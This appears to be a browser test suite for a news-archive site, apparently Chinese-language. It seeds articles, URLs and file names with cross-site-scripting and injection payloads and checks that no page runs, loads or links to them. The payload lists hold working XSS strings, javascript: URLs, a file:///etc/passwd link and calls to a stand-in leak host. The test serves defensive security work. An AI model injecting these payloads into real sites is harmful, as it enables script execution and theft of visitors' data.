// Articles that mean harm: script in titles, texts, names, addresses and paths, and in what is asked. Every page that can be
// reached is looked at: nothing of it runs, nothing is loaded, no element is made of it, no link leads but to the web.

import assert from "node:assert/strict";

import { folder, run, serve, told, write } from "./harness/archive.mjs";
import { reader } from "./harness/browser.mjs";
import { test } from "./harness/tests.mjs";

const RUNS = "window.harmed=1;alert(1);fetch('http://leak.example/f')";
// What breaks out of text, of attributes in either quotes, of elements whose text is raw, and of comments.
const SCRIPTS = [
  `<script>${RUNS}</script>`,
  `"><img src="http://leak.example/i" onerror="${RUNS}">`,
  `' autofocus onfocus='${RUNS}' x='`,
  `</title></textarea></style></noscript><svg onload="${RUNS}">`,
  `--><iframe srcdoc="<script>parent.harmed=1</script>"></iframe><!--`,
  `<base href="http://leak.example/"><meta http-equiv="refresh" content="0;url=http://leak.example/m">`,
  `<form action="http://leak.example/"><button id="search">`,
  `<a href="javascript:${RUNS}">渡輪</a>`,
  `{{ 7*191 }} {% raw %} \${7*191} &lt;script&gt;${RUNS}&lt;/script&gt; &#60;script&#62;`,
  `<!--side--><mark id="m1">渡輪</mark>]]>`,
  `\u202e<b>\u2066\u0000\u001b[2J`,
  `<link rel="stylesheet" href="http://leak.example/c"><style>@import "http://leak.example/s";</style>`,
];
const URLS = [
  `javascript:${RUNS}`, `JaVaScRiPt://example.org/%0a${RUNS}`, "data:text/html,<script>parent.harmed=1</script>", "vbscript:x",
  "//leak.example/", `https://example.org/"onmouseover="${RUNS}`, "https://example.org/<script>", "blob:http://x/", "file:///etc/passwd",
  ` javascript:${RUNS}`, "java\tscript:alert(1)", "https://example.org/渡輪?a=b&c=d#e",
];
// Names of files that the file system lets be.
const PATHS = [
  `<img src=x onerror="window.harmed=1">.md`, `<script>window.harmed=1<`, `'"onmouseover="harmed=1.md`, "a b%2e%2e%2fc?d=e#f.md",
  "line\nbreak.md", "\u202egnp.md", "{{7*191}}.md", "javascript:alert(1).md",
];

/** An archive of such articles: each script stands in every field, once. */
function archive() {
  const at = folder();
  const records = SCRIPTS.map((script, nth) => ({
    title: `渡輪 ${nth} ${script}`,
    body: `渡輪與碼頭 ${nth}。${script}\n第二段 ${script} 渡輪。`,
    source: script, author: `葉${script}`, editor: script, reviewer: script, section: script, page: script.slice(0, 20),
    date: "2024-03-19", url: URLS[nth % URLS.length],
  }));
  const lines = (all) => all.map((record) => `${JSON.stringify(record)}\n`).join("");
  write(at, { "records.jsonl": lines(records), "urls.jsonl": lines(URLS.map((url, nth) => ({ title: `碼頭 ${nth}`, body: `渡輪 ${url}`, url }))) });
  for (const path of PATHS) {
    const file = path.endsWith(".md") ? path : `${path}/script>.md`;
    write(at, { [file]: `---\ntitle: 路徑\n---\n渡輪靠岸。\n` });
  }
  run(at, "index");
  return at;
}

/** What of a page is not its own, as a list of complaints. */
const foreign = () => {
  const wrong = [];
  if (window.harmed) wrong.push("a script ran");
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name) || ["style", "srcdoc", "ping"].includes(name)) wrong.push(`${name}=${value}`);
      if (/^(href|src|action|formaction|xlink:href|data)$/i.test(name) && !/^(https?:\/\/|\/(?!\/)|[?#])/i.test(value)) wrong.push(`${name}=${value}`);
    }
  }
  for (const element of document.querySelectorAll("script, link, img, iframe, object, embed, base, style")) {
    const from = element.getAttribute("src") ?? element.getAttribute("href");
    if (!from?.startsWith("/assets/")) wrong.push(element.outerHTML.slice(0, 200));
  }
  for (const form of document.forms) if (new URL(form.action).origin !== location.origin) wrong.push(form.action);
  if (document.querySelectorAll("meta[http-equiv]").length) wrong.push("a refresh");
  if (/\b1337\b/.test(document.body.innerText)) wrong.push("a template was filled in");
  return wrong;
};

test("what would harm is seen", async () => {
  const { context, page } = await reader();
  await context.route("**", (route) => route.abort());
  for (const script of SCRIPTS.filter((script) => !/^(\u202e|\{\{|<!--)/.test(script))) {
    const body = `<!doctype html><title>${script}</title><!-- ${script} --><p class="${script}">${script}<p class='${script}'>`;
    await context.route("**/planted", (route) => route.fulfill({ contentType: "text/html", body }));
    await page.goto("/planted").catch(() => {});
    assert.notDeepEqual(await page.evaluate(foreign).catch(() => ["gone"]), [], script);
  }
  await context.close();
});

for (const script of [true, false]) {
  test(`script in articles does nothing on any page${script ? "" : ", without JavaScript"}`, { timeout: 180_000 }, async () => {
    const server = await serve(archive());
    const one = await reader({ script, server });
    const { page, address } = one;
    one.awaits(/status of 4\d\d/);
    const { hits } = told(server.archive, "search", "渡輪", "--limit", "1000");
    assert.equal(hits.length, SCRIPTS.length + URLS.length + PATHS.length, "all of them are in the index");
    const asked = (path, query) => `${path}?query=${encodeURIComponent(query)}`;
    const to = ["/", "/timeline", "/kwic", "/facets"].map((path) => asked(path, "渡輪"));
    to.push(...SCRIPTS.map((query, nth) => asked(["/", "/timeline", "/kwic", "/facets"][nth % 4], query)), ...SCRIPTS.map((query) => asked("/", query)));
    to.push(...hits.flatMap(({ id }, nth) => [`/article/${id}?query=渡輪&inspect=1`, ...(nth % 8 ? [] : [`/reprints/${id}`])]));
    for (const wrong of SCRIPTS) {
      const value = encodeURIComponent(wrong);
      to.push(`/${value}`, `/article/${value}`, `/?query=渡輪&source=${value}&as-typed=${value}`, `/?query=渡輪&lang=${value}&from=${value}&${value}=1`);
    }
    const seen = new Set();
    let looked = 0;
    // Without JavaScript markup alone could do harm: a third of the pages shows it. Links are followed as well, a few of each page.
    const pages = script ? to.splice(0) : to.splice(0).filter((_, nth) => nth % 3 === 0);
    while (pages.length && looked < 150) {
      const next = pages.shift();
      if (seen.has(next)) continue;
      seen.add(next);
      const answer = await page.goto(next, { waitUntil: "load" }).catch((error) => {
        assert.match(String(error), /Download is starting|ERR_ABORTED/, next);
      });
      if (!answer) continue;
      looked++;
      assert.ok(answer.status() < 500, `${next}: ${answer.status()}`);
      assert.deepEqual(await page.evaluate(foreign), [], next);
      if (!script || !/text\/html/.test(answer.headers()["content-type"])) continue;
      const links = await page.locator("main a[href^='/']").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
      pages.push(...links.filter((link, nth) => nth % 17 === looked % 17 && !/\/api\//.test(link)));
    }
    assert.ok(looked > (script ? 120 : 35), `${looked} pages`);
    // What is typed is typed again into the page, and stays text.
    await page.goto(`${address}/?query=${encodeURIComponent(SCRIPTS[1])}`);
    assert.equal(await page.locator("#query").inputValue(), SCRIPTS[1]);
    await one.ends();
    await server.end();
  });
}
